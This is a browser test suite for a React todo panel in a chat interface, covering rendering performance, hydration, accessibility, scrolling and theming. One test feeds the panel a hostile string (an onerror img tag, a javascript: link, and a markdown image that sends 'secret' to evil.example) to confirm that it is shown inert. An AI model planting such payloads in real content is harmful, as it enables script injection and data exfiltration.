import { createRef, Profiler, StrictMode } from 'react'
import { hydrateRoot } from 'react-dom/client'
import { renderToString } from 'react-dom/server'
import { afterEach, beforeEach, describe, expect, test, vi } from 'vitest'
import { cdp, page, userEvent } from 'vitest/browser'
import { render } from 'vitest-browser-react'
import { createStore, type StoreApi } from 'zustand/vanilla'
import { type DraftTodo, emptyView, idleRun, type Todo, type TodoView } from '../core/todo.ts'
import { enLabels, type RowState } from './labels.ts'
import type { PanelTodo } from './panelState.ts'
import { TodoPanel } from './TodoPanel.tsx'
import './styles.css'

interface ChatView extends TodoView {
  readonly messages: readonly string[]
}

function newSession(change: Partial<TodoView> = {}): { id: string; store: StoreApi<ChatView> } {
  return {
    id: 's1',
    store: createStore<ChatView>(() => ({ ...emptyView, persistence: 'saved', messages: [], ...change })),
  }
}

function todosOf(...contents: readonly string[]): readonly Todo[] {
  return contents.map((content, index) => ({ id: index + 1, content, status: 'pending', createdAt: 0 }))
}

function withStatus(todos: readonly Todo[], id: number, status: Todo['status']): readonly Todo[] {
  return todos.map((todo) => (todo.id === id ? { ...todo, status } : todo))
}

const running = { ...idleRun, status: 'running' } as const
const rows = () => [...document.querySelectorAll('li')]
const texts = () => rows().map((row) => row.querySelector('.todo-panel-content')?.textContent)
const frame = () => new Promise((resolve) => requestAnimationFrame(resolve))

/** A change of the session, and what the page makes of it. */
async function change(session: ReturnType<typeof newSession>, next: Partial<ChatView>): Promise<void> {
  session.store.setState(next)
  await frame()
  await frame()
}

describe('rendering', () => {
  test('a token of text renders nothing', async () => {
    const session = newSession({ todos: todosOf('Read', 'Write'), run: running })
    const onRender = vi.fn()
    await render(
      <Profiler id="panel" onRender={onRender}>
        <TodoPanel session={session} />
      </Profiler>,
    )
    const before = onRender.mock.calls.length
    for (let index = 0; index < 200; index++) session.store.setState({ messages: [`${index}`] })
    await frame()
    await frame()
    expect(onRender.mock.calls.length).toBe(before)
  })

  test('a host that renders with each token renders no panel', async () => {
    const session = newSession({ todos: todosOf('Read') })
    const root = vi.fn((props: object) => <section {...props} />)
    const chat = (token: string) => (
      <div>
        {token}
        <TodoPanel session={session} render={root} />
      </div>
    )
    const screen = await render(chat('a'))
    const before = root.mock.calls.length
    await screen.rerender(chat('b'))
    expect(root.mock.calls.length).toBe(before)
  })

  test('one of a thousand todos that changes renders one row, and the one that stops being current', async () => {
    const contents = Array.from({ length: 1000 }, (_, index) => `Item ${index + 1}`)
    const todos = withStatus(todosOf(...contents), 1, 'in_progress')
    const session = newSession({ todos, run: running })
    // Each row reads the word for its status once.
    const word = vi.fn((words: typeof enLabels.status, state: RowState) => words[state])
    const labels = { ...enLabels, status: new Proxy(enLabels.status, { get: word as never }) }
    await render(<TodoPanel session={session} labels={labels} />)
    expect(word).toHaveBeenCalledTimes(1000)

    word.mockClear()
    const later = withStatus(todos, 500, 'completed')
    await change(session, { todos: later })
    expect(word.mock.calls.map(([, state]) => state)).toEqual(['completed'])

    word.mockClear()
    await change(session, { todos: withStatus(withStatus(later, 1, 'completed'), 2, 'in_progress') })
    expect(word.mock.calls.map(([, state]) => state)).toEqual(['completed', 'in_progress'])
  })

  test('rows keep their nodes when the whole list is replaced and reordered', async () => {
    const session = newSession({ todos: todosOf('a', 'b', 'c') })
    await render(<TodoPanel session={session} />)
    const [a, b, c] = rows()
    const replaced = [...session.store.getState().todos].reverse().map((todo) => ({ ...todo }))
    await change(session, { todos: replaced })
    expect(rows()).toEqual([c, b, a])
  })

  test('a session without an entry renders in bounds, in strict mode too', async () => {
    const onRender = vi.fn()
    await render(
      <StrictMode>
        <Profiler id="panel" onRender={onRender}>
          <TodoPanel session={newSession({ persistence: 'loading' })} />
        </Profiler>
      </StrictMode>,
    )
    await frame()
    expect(onRender.mock.calls.length).toBeLessThan(4)
  })

  test('thousands of deltas in one task are a few renders and no error', async () => {
    const todos = todosOf(...Array.from({ length: 100 }, (_, index) => `Item ${index + 1}`))
    const session = newSession({ todos, run: running })
    const onRender = vi.fn()
    await render(
      <Profiler id="panel" onRender={onRender}>
        <TodoPanel session={session} />
      </Profiler>,
    )
    const before = onRender.mock.calls.length
    for (let index = 0; index < 3000; index++) {
      const content = 'x'.repeat(index % 60)
      session.store.setState({ draft: [{ content, status: 'pending', partial: true }] })
      if (index % 3) session.store.setState({ messages: [content] })
      if (index % 100 === 0) await Promise.resolve()
    }
    session.store.setState({ draft: null, todos: withStatus(todos, 1, 'completed') })
    await expect.element(page.getByText('1 of 100')).toBeVisible()
    await frame()
    expect(onRender.mock.calls.length - before).toBeLessThan(10)
    expect(rows()).toHaveLength(100)
  })

  test('idle, nothing ticks; with a current item one clock does while the page is visible', async () => {
    const intervals = new Set<unknown>()
    const set = vi.spyOn(window, 'setInterval').mockImplementation((() => {
      const id = intervals.size + 1
      intervals.add(id)
      return id
    }) as never)
    const clear = vi.spyOn(window, 'clearInterval').mockImplementation((id) => void intervals.delete(id))
    const todos = todosOf('a', 'b').map((todo) => ({ ...todo, startedAt: Date.now() }))
    const session = newSession({ todos, run: idleRun })
    await render(<TodoPanel session={session} />)
    expect(intervals.size).toBe(0)
    await change(session, { todos: withStatus(todos, 1, 'in_progress'), run: running })
    expect(intervals.size).toBe(1)
    const hidden = vi.spyOn(document, 'hidden', 'get').mockReturnValue(true)
    document.dispatchEvent(new Event('visibilitychange'))
    expect(intervals.size).toBe(0)
    hidden.mockRestore()
    document.dispatchEvent(new Event('visibilitychange'))
    expect(intervals.size).toBe(1)
    await change(session, { run: idleRun })
    expect(intervals.size).toBe(0)
    set.mockRestore()
    clear.mockRestore()
  })

  test('the clock of the current item renders no row', async () => {
    const todos: readonly PanelTodo[] = [
      { id: 1, content: 'a', status: 'in_progress', startedAt: Date.now() - 5000 },
    ]
    const word = vi.fn((words: typeof enLabels.status, state: RowState) => words[state])
    const labels = { ...enLabels, status: new Proxy(enLabels.status, { get: word as never }) }
    await render(<TodoPanel todos={todos} labels={labels} />)
    const clock = document.querySelector('.todo-panel-aside')
    const before = clock?.textContent
    expect(before).toMatch(/^\d\s+s$/)
    word.mockClear()
    await expect.poll(() => clock?.textContent, { timeout: 5000 }).not.toBe(before)
    expect(word).not.toHaveBeenCalled()
  })

  test('styles come from the stylesheet alone', async () => {
    const before = document.querySelectorAll('style, link[rel=stylesheet]').length
    await render(<TodoPanel todos={todosOf('a')} />)
    expect(document.querySelectorAll('style, link[rel=stylesheet]').length).toBe(before)
  })
})

describe('on a server and after', () => {
  test('the first client render equals the server and then fills', async () => {
    const session = newSession({ todos: todosOf('Read'), mode: 'plan' })
    const initial: ChatView = { ...emptyView, messages: [] }
    const server = { ...session, store: { ...session.store, getInitialState: () => initial } }
    const element = (
      <StrictMode>
        <TodoPanel session={server} />
      </StrictMode>
    )
    const box = document.createElement('div')
    document.body.append(box)
    box.innerHTML = renderToString(element)
    expect(box.textContent).toContain('Nothing planned yet')
    const problems: unknown[] = []
    const root = hydrateRoot(box, element, { onRecoverableError: (error) => problems.push(error) })
    await expect.poll(texts).toEqual(['Read'])
    expect(problems).toEqual([])
    root.unmount()
    box.remove()
  })
})

describe('drafts', () => {
  const draftOf = (...contents: readonly string[]): DraftTodo[] =>
    contents.map((content) => ({ content, status: 'pending' }))

  test('a committed row never goes while a stream is half-way', async () => {
    const session = newSession({ todos: todosOf('Read', 'Review', 'Write'), run: running })
    await render(<TodoPanel session={session} />)
    const before = rows()
    const stream: DraftTodo[][] = [
      [{ content: '', status: 'pending', partial: true }],
      [{ content: 'Rea', status: 'pending', partial: true }],
      draftOf('Read'),
      [...draftOf('Read'), { content: 'Rev', status: 'pending', partial: true }],
      draftOf('Read', 'Review', 'Write'),
    ]
    for (const draft of stream) {
      await change(session, { draft })
      expect(rows()).toEqual(before)
    }
  })

  test('a tentative row becomes firm in the same node', async () => {
    const session = newSession({ todos: todosOf('Read'), run: running })
    await render(<TodoPanel session={session} />)
    await change(session, {
      draft: [...draftOf('Read', 'Review'), { content: 'Wri', status: 'pending', partial: true }],
    })
    await expect.poll(texts).toEqual(['Read', 'Review', 'Wri'])
    const [, review, write] = rows()
    expect(review?.dataset.draft).toBe('complete')
    expect(write?.dataset.draft).toBe('partial')
    await change(session, { draft: null, todos: todosOf('Read', 'Review', 'Write') })
    expect(rows()[1]).toBe(review)
    expect(rows()[2]).toBe(write)
    expect(review?.dataset.draft).toBeUndefined()
  })
})

describe('announcements', () => {
  beforeEach(() => {
    vi.useFakeTimers({ toFake: ['setTimeout', 'clearTimeout'] })
  })
  afterEach(() => {
    vi.useRealTimers()
  })

  const said = () => document.querySelector('[role=status]')?.textContent
  const wait = async (ms: number) => {
    vi.advanceTimersByTime(ms)
    await frame()
    await frame()
  }
  const twelve = todosOf(...Array.from({ length: 12 }, (_, index) => `Item ${index + 1}`))

  test('nothing is said of an old list, mounted or read from storage', async () => {
    const session = newSession({ persistence: 'loading' })
    await render(<TodoPanel session={session} />)
    await change(session, {
      persistence: 'saved',
      todos: withStatus(twelve, 1, 'completed'),
      run: { ...idleRun, outcome: 'stopped' },
    })
    await wait(3000)
    expect(said()).toBe('')
  })

  test('one sentence for a list that was replaced with one status changed', async () => {
    const session = newSession({ todos: twelve, run: running })
    await render(<TodoPanel session={session} />)
    await change(session, {
      todos: withStatus(
        twelve.map((todo) => ({ ...todo })),
        1,
        'in_progress',
      ),
    })
    await wait(1000)
    expect(said()).toBe('0 of 12 done: now Item 1')
  })

  test('three completions in a second are one sentence', async () => {
    const session = newSession({ todos: twelve, run: running })
    await render(<TodoPanel session={session} />)
    let todos = twelve
    for (const id of [1, 2, 3]) {
      todos = withStatus(todos, id, 'completed')
      await change(session, { todos })
      await wait(300)
      expect(said()).toBe('')
    }
    await wait(1000)
    expect(said()).toBe('3 of 12 done')
  })

  test('nothing is said of drafts and text', async () => {
    const session = newSession({ todos: twelve, run: running })
    await render(<TodoPanel session={session} />)
    for (let index = 0; index < 500; index++) {
      session.store.setState({
        draft: [{ content: `${index}`, status: 'pending', partial: true }],
        messages: [`${index}`],
      })
    }
    await wait(3000)
    expect(said()).toBe('')
  })

  test('an end and a failed save are said once', async () => {
    const session = newSession({ todos: twelve, run: running })
    await render(<TodoPanel session={session} />)
    await change(session, { run: { ...idleRun, outcome: 'stopped' } })
    await change(session, { persistence: 'failed' })
    await wait(1000)
    expect(said()).toBe('Stopped · 12 still open. Not saved')
    await change(session, { run: running })
    await wait(1000)
    expect(said()).toBe('0 of 12 done')
  })
})

describe('a long list', () => {
  const items = (count: number, current: number): readonly PanelTodo[] =>
    Array.from({ length: count }, (_, index) => ({
      id: index + 1,
      content: `Item ${index + 1}`,
      status: index + 1 < current ? 'completed' : index + 1 === current ? 'in_progress' : 'pending',
    }))
  const list = () => document.querySelector('ol') as HTMLOListElement
  const inView = (id: number) => {
    const room = list().getBoundingClientRect()
    const place = (rows()[id - 1] as HTMLElement).getBoundingClientRect()
    return place.top >= room.top - 1 && place.bottom <= room.bottom + 1
  }

  beforeEach(() => page.viewport(900, 400))

  test('keeps its height and shows the current item', async () => {
    await render(<TodoPanel todos={items(56, 41)} />)
    await expect.poll(() => inView(41)).toBe(true)
    expect(list().getBoundingClientRect().height).toBeLessThanOrEqual(200)
    expect(getComputedStyle(list()).overscrollBehaviorY).toBe('contain')
    expect(window.scrollY).toBe(0)
    expect(document.documentElement.scrollHeight).toBeLessThanOrEqual(400)
  })

  test('finds a current item far down among rows that were never rendered', async () => {
    await render(<TodoPanel todos={items(1000, 600)} />)
    await expect.poll(() => inView(600), { timeout: 10_000 }).toBe(true)
  })

  test('follows the current item until the person scrolls away, and again once they are back', async () => {
    const screen = await render(<TodoPanel todos={items(56, 10)} />)
    await expect.poll(() => inView(10)).toBe(true)
    await screen.rerender(<TodoPanel todos={items(56, 30)} />)
    await expect.poll(() => inView(30)).toBe(true)

    list().scrollTo({ top: 0, behavior: 'instant' })
    await frame()
    await frame()
    await screen.rerender(<TodoPanel todos={items(56, 31)} />)
    await new Promise((resolve) => setTimeout(resolve, 500))
    expect(list().scrollTop).toBe(0)

    list().scrollTo({
      top: (rows()[30] as HTMLElement).offsetTop - list().offsetTop - 60,
      behavior: 'instant',
    })
    await frame()
    await frame()
    await screen.rerender(<TodoPanel todos={items(56, 50)} />)
    await expect.poll(() => inView(50)).toBe(true)
  })

  test('the keyboard reaches and scrolls it, and passes by one that is short', async () => {
    const screen = await render(<TodoPanel todos={items(56, 1)} />)
    await expect.element(page.getByRole('list')).toHaveAttribute('tabindex', '0')
    expect(list().dataset.scrollable).toBe('')
    list().focus()
    await userEvent.keyboard('{PageDown}')
    await expect.poll(() => list().scrollTop).toBeGreaterThan(0)
    await screen.rerender(<TodoPanel todos={items(3, 1)} />)
    await expect.poll(() => list().hasAttribute('tabindex')).toBe(false)
    expect(list().dataset.scrollable).toBeUndefined()
  })
})

describe('text as attack', () => {
  test('is shown as it is and asks nothing of the network', async () => {
    const content =
      '<img src="/attack.png" onerror="document.title=1"> [click](javascript:alert(1)) ![p](https://evil.example/?q=secret) </todos>'
    const todos = (['pending', 'blocked', 'in_progress'] as const).map((status, id) => ({
      id,
      content,
      status,
      reason: content,
      description: content,
    }))
    const error = { code: 'model_failed', message: content }
    await render(
      <TodoPanel todos={todos} title={content} run={{ outcome: 'failed', error }} mode={content} />,
    )
    expect(texts()).toEqual([content, content, content])
    expect(document.querySelectorAll('.todo-panel :is(img, a, script, iframe)')).toHaveLength(0)
    await frame()
    expect(performance.getEntriesByType('resource').filter(({ name }) => /attack|evil/.test(name))).toEqual(
      [],
    )
  })

  test('one bad row leaves the rest of the page standing', async () => {
    const todos = [null, { id: 1, content: null }, { id: 2, content: 'Good', status: 'odd' }, {}] as never
    await render(<TodoPanel todos={todos} draft={[{}, null] as never} />)
    expect(texts()).toEqual(['Good'])
  })
})

describe('the person', () => {
  test('opens and closes, where the host does not decide', async () => {
    const onOpenChange = vi.fn()
    const screen = await render(<TodoPanel todos={todosOf('a')} onOpenChange={onOpenChange} />)
    const toggle = screen.getByRole('button', { name: 'Todos' })
    await expect.element(toggle).toHaveAttribute('aria-controls', document.querySelector('ol')?.id)
    await toggle.click()
    expect(onOpenChange).toHaveBeenLastCalledWith(false)
    expect(document.querySelector('ol')).toBeNull()
    await expect.element(toggle).not.toHaveAttribute('aria-controls')

    await screen.rerender(<TodoPanel todos={todosOf('a')} open onOpenChange={onOpenChange} />)
    await toggle.click()
    expect(onOpenChange).toHaveBeenLastCalledWith(false)
    expect(document.querySelector('ol')).not.toBeNull()
  })

  test('keeps the focus in the panel when an action disappears under it', async () => {
    const session = newSession({ todos: todosOf('a'), run: { ...idleRun, status: 'interrupted' } })
    session.store.setState({ controls: { resume: () => session.store.setState({ run: running }) } })
    const screen = await render(<TodoPanel session={session} />)
    await screen.getByRole('button', { name: 'Resume' }).click()
    await expect.element(screen.getByRole('region', { name: 'Todos' })).toHaveFocus()
  })

  test('closes the bar with Escape, unless the host took the key', async () => {
    const onKeyDown = vi.fn((event: React.KeyboardEvent) => event.preventDefault())
    const screen = await render(
      <TodoPanel variant="bar" todos={todosOf('a')} defaultOpen onKeyDown={onKeyDown} />,
    )
    screen.getByRole('button').element().focus()
    await userEvent.keyboard('{Escape}')
    expect(document.querySelector('ol')).not.toBeNull()
    await screen.rerender(<TodoPanel variant="bar" todos={todosOf('a')} />)
    await userEvent.keyboard('{Escape}')
    expect(document.querySelector('ol')).toBeNull()
    await expect.element(screen.getByRole('button')).toHaveFocus()
  })
})

describe('parts', () => {
  test('give their element to a ref, and take attributes and styles', async () => {
    const root = createRef<HTMLElement>()
    const list = createRef<HTMLOListElement>()
    const header = vi.fn()
    await render(
      <TodoPanel.Root
        todos={todosOf('a')}
        ref={root}
        className="mine"
        style={{ inlineSize: 300 }}
        data-testid="panel"
      >
        <TodoPanel.Header ref={header} collapsible={false} />
        <TodoPanel.List ref={list} aria-label="My list" />
      </TodoPanel.Root>,
    )
    expect(root.current?.className).toBe('todo-panel mine')
    expect(root.current?.dataset.testid).toBe('panel')
    expect(root.current?.style.inlineSize).toBe('300px')
    expect(list.current?.tagName).toBe('OL')
    expect(header).toHaveBeenCalledWith(document.querySelector('header'))
    await expect.element(page.getByRole('list', { name: 'My list' })).toBeVisible()
  })
})

describe('motion and colours', () => {
  const media = (features: readonly { name: string; value: string }[]) =>
    (cdp() as unknown as { send(method: string, params: object): Promise<void> }).send(
      'Emulation.setEmulatedMedia',
      {
        features,
      },
    )
  const todos: readonly PanelTodo[] = [
    { id: 1, content: 'Done', status: 'completed' },
    { id: 2, content: 'Now', status: 'in_progress' },
    { id: 3, content: 'Later', status: 'pending' },
  ]

  afterEach(() => media([]))

  test('the current item turns, and only it', async () => {
    await media([{ name: 'prefers-reduced-motion', value: 'no-preference' }])
    await render(<TodoPanel todos={todos} />)
    const turning = document.getAnimations().filter((it) => it instanceof CSSAnimation)
    expect(turning.map((it) => (it.effect as KeyframeEffect).target?.closest('li')?.dataset.status)).toEqual([
      'in_progress',
    ])
  })

  test('under reduced motion nothing moves and the current item is still another shape on another ground', async () => {
    await media([{ name: 'prefers-reduced-motion', value: 'reduce' }])
    await render(<TodoPanel todos={todos} />)
    expect(document.getAnimations()).toEqual([])
    const [, now, later] = rows() as HTMLElement[] as [HTMLElement, HTMLElement, HTMLElement]
    expect(now.querySelector('path')?.getAttribute('d')).not.toBe(
      later.querySelector('path')?.getAttribute('d'),
    )
    expect(getComputedStyle(now).backgroundColor).not.toBe(getComputedStyle(later).backgroundColor)
    expect(getComputedStyle(now.querySelector('.todo-panel-content') as Element).fontWeight).toBe('600')
  })

  test('in forced colours the current item has a border', async () => {
    await media([{ name: 'forced-colors', value: 'active' }])
    await render(<TodoPanel todos={todos} />)
    expect(getComputedStyle(rows()[1] as Element).outlineStyle).toBe('solid')
  })

  test.each(['light', 'dark'])(
    'the scheme of the page decides, and data-theme goes before it: %s',
    async (scheme) => {
      const other = scheme === 'light' ? 'dark' : 'light'
      await render(
        <div style={{ colorScheme: scheme }}>
          <TodoPanel todos={todos} data-testid="page" title="Page" />
          <TodoPanel todos={todos} data-testid="own" title="Own" data-theme={other} />
        </div>,
      )
      const ground = (id: string) => getComputedStyle(page.getByTestId(id).element()).backgroundColor
      const light = 'rgb(255, 255, 255)'
      expect(ground('page') === light).toBe(scheme === 'light')
      expect(ground('own') === light).toBe(scheme === 'dark')
    },
  )
})
